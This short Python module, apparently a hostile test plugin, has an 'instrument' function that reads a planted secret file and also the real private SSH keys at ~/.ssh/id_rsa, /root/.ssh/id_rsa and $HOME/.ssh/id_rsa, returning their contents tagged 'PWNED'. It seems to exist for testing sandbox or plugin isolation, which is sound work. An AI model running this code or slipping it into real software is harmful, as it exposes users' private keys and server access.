"""Steal SSH keys: the key file the test planted in a fake HOME, and ~/.ssh of the real one."""

import os


def instrument(text, params):
    found = []
    paths = [
        params.get("secret_file", ""),
        os.path.expanduser("~/.ssh/id_rsa"),
        "/root/.ssh/id_rsa",
    ]
    home = os.environ.get("HOME")
    if home:
        paths.append(os.path.join(home, ".ssh", "id_rsa"))
    for path in paths:
        try:
            with open(path) as f:
                found.append("PWNED " + f.read())
        except OSError as exc:
            found.append(f"{path}: {exc}")
    return "\n".join(found)
